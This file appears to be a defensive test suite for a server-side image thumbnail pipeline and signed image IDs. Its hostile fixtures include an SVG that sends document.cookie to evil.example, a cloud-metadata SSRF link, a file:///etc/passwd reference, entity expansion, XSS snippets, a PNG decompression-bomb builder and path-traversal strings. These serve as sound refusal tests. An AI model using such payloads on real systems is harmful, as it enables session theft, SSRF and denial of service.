/** The image pipeline: every input made with sharp itself (or by hand, for the hostile ones). */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import {
  ICON_WIDTHS,
  IMAGE_WIDTHS,
  imageKey,
  makeThumbnails,
  signImageId,
  sniffImage,
  verifyImageId,
} from '../../../src/server/previews/images.js';

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } });

async function assertCleanWebp(buf: Buffer, width: number) {
  assert.equal(buf.subarray(0, 4).toString('latin1'), 'RIFF');
  assert.equal(buf.subarray(8, 12).toString('latin1'), 'WEBP');
  const meta = await sharp(buf).metadata();
  assert.equal(meta.format, 'webp');
  assert.equal(meta.width, width);
  assert.equal(meta.exif, undefined, 'no EXIF');
  assert.equal(meta.icc, undefined, 'no ICC profile');
  assert.equal(meta.xmp, undefined, 'no XMP');
}

/** A PNG whose header claims width × height, with real (all-zero) grayscale rows: a decompression bomb. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // grayscale
  const raw = Buffer.alloc((width + 1) * height); // filter byte 0 + zero pixels per row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const HOSTILE_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <image xlink:href="http://169.254.169.254/latest/meta-data/" width="400" height="400"/>
  <image href="file:///etc/passwd" width="10" height="10"/>
  <text>&b;</text>
</svg>`;

describe('image pipeline', () => {
  test('PNG page image → WebP at 400 and 800, metadata stripped', async () => {
    const png = await solid(1200, 630).png().toBuffer();
    const r = await makeThumbnails(png, 'image');
    assert.ok(r.ok, !r.ok ? r.message : '');
    assert.deepEqual(r.source, { format: 'png', width: 1200, height: 630 });
    assert.deepEqual(
      r.thumbnails.map((t) => [t.width, t.height]),
      [
        [400, 210],
        [800, 420],
      ],
    );
    for (const t of r.thumbnails) {
      await assertCleanWebp(t.webp, t.width);
      assert.equal(t.key, imageKey(t.webp));
      assert.ok(t.webp.length < 20_000, `${t.webp.length} bytes`);
    }
    assert.deepEqual(IMAGE_WIDTHS, [400, 800]);
  });

  test('JPEG with EXIF (camera, GPS-like comment) and an ICC profile: none of it survives', async () => {
    const jpeg = await solid(900, 600)
      .withExif({ IFD0: { Copyright: 'secret owner', ImageDescription: 'home address' } })
      .withIccProfile('p3')
      .jpeg()
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    assert.ok(before.exif && before.icc, 'the input does carry EXIF and ICC');
    const r = await makeThumbnails(jpeg, 'image');
    assert.ok(r.ok);
    assert.equal(r.source.format, 'jpeg');
    for (const t of r.thumbnails) {
      await assertCleanWebp(t.webp, t.width);
      assert.ok(!t.webp.includes(Buffer.from('secret owner')));
    }
  });

  test('EXIF orientation is applied before it is dropped', async () => {
    const jpeg = await solid(800, 400).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    // Orientation 6 = rotate 90°: the 800×400 stored pixels are a 400×800 picture.
    assert.equal((await sharp(jpeg).metadata()).orientation, 6);
    const r = await makeThumbnails(jpeg, 'image');
    assert.ok(r.ok);
    assert.deepEqual(r.source, { format: 'jpeg', width: 400, height: 800 });
    assert.deepEqual([r.thumbnails[0].width, r.thumbnails[0].height], [400, 800]);
    assert.equal(r.thumbnails.length, 1, 'no 800-wide copy of a 400-wide picture');
  });

  test('animated GIF → first frame as a still WebP; a small image is not enlarged', async () => {
    const gif = await sharp({ create: { width: 300, height: 200, channels: 4, background: '#0f766e' } })
      .gif()
      .toBuffer();
    const r = await makeThumbnails(gif, 'image');
    assert.ok(r.ok);
    assert.equal(r.source.format, 'gif');
    assert.deepEqual(
      r.thumbnails.map((t) => t.width),
      [300],
    );
    await assertCleanWebp(r.thumbnails[0].webp, 300);
  });

  test('icons at 64 px; WebP and AVIF inputs accepted', async () => {
    assert.deepEqual(ICON_WIDTHS, [64]);
    for (const input of [await solid(256, 256).webp().toBuffer(), await solid(192, 192).avif().toBuffer()]) {
      const r = await makeThumbnails(input, 'icon');
      assert.ok(r.ok, !r.ok ? r.message : '');
      assert.deepEqual(
        r.thumbnails.map((t) => [t.width, t.height]),
        [[64, 64]],
      );
      await assertCleanWebp(r.thumbnails[0].webp, 64);
    }
  });

  test('SVG with <script>, external hrefs and entities is refused before any decoder sees it', async () => {
    for (const svg of [
      HOSTILE_SVG,
      `\ufeff  ${HOSTILE_SVG}`,
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      '<!-- x --><svg onload="alert(1)"/>',
    ]) {
      const r = await makeThumbnails(Buffer.from(svg), 'icon');
      assert.equal(r.ok, false);
      assert.equal(!r.ok && r.reason, 'svg');
    }
    // sharp would have rasterised it: the refusal is ours, not an accident of the build.
    assert.equal(sharp.format.svg.input.buffer, true);
  });

  test('decompression bombs are refused: a 36-megapixel PNG of 35 kB, and a header claiming 100,000²', async () => {
    const bomb = pngBomb(6000, 6000);
    assert.ok(bomb.length < 100_000, `${bomb.length} bytes`);
    const r = await makeThumbnails(bomb, 'image');
    assert.equal(!r.ok && r.reason, 'too_many_pixels');
    const huge = pngBomb(100_000, 1); // then patch the height in IHDR: the data will not match, the header is read first
    huge.writeUInt32BE(100_000, 20);
    const r2 = await makeThumbnails(huge, 'image');
    assert.equal(r2.ok, false);
    assert.ok(!r2.ok && ['too_many_pixels', 'broken'].includes(r2.reason), !r2.ok ? r2.reason : '');
  });

  test('other formats and broken files are refused', async () => {
    const ico = Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0]);
    assert.equal(sniffImage(ico).ok, false);
    assert.equal(((await makeThumbnails(ico, 'icon')) as { reason: string }).reason, 'unsupported');
    assert.equal(
      ((await makeThumbnails(Buffer.from('%PDF-1.7\n'), 'image')) as { reason: string }).reason,
      'unsupported',
    );
    assert.equal(
      ((await makeThumbnails(Buffer.from('<html><body>hi</body></html>'), 'image')) as { reason: string }).reason,
      'unsupported',
    );
    const png = await solid(500, 500).png().toBuffer();
    const r = await makeThumbnails(png.subarray(0, 200), 'image');
    assert.equal(r.ok, false);
    assert.equal(!r.ok && r.reason, 'broken');
  });
});

describe('signed image IDs', () => {
  const secret = 'server-secret-0123456789abcdef';
  test('round trip', () => {
    const key = imageKey(Buffer.from('webp bytes'));
    const id = signImageId(key, secret);
    assert.match(id, /^[A-Za-z0-9_-]+\.[A-Za-z0-9_-]{43}$/);
    assert.equal(verifyImageId(id, secret), key);
  });
  test('altered key, altered MAC, another secret, or junk: refused (no open proxy)', () => {
    const key = imageKey(Buffer.from('webp bytes'));
    const id = signImageId(key, secret);
    const [k, mac] = id.split('.');
    const flip = (s: string) => (s[0] === 'A' ? 'B' : 'A') + s.slice(1);
    assert.equal(verifyImageId(`${flip(k)}.${mac}`, secret), null);
    assert.equal(verifyImageId(`${k}.${flip(mac)}`, secret), null);
    assert.equal(verifyImageId(id, 'another-secret'), null);
    for (const junk of [
      '',
      '.',
      k,
      `${k}.`,
      `.${mac}`,
      `${id}.x`,
      '../../etc/passwd.abc',
      'https://evil.example/x.png',
      `${k}.${mac.slice(1)}`,
    ]) {
      assert.equal(verifyImageId(junk, secret), null, junk);
    }
    assert.throws(() => signImageId('../x', secret));
  });
});
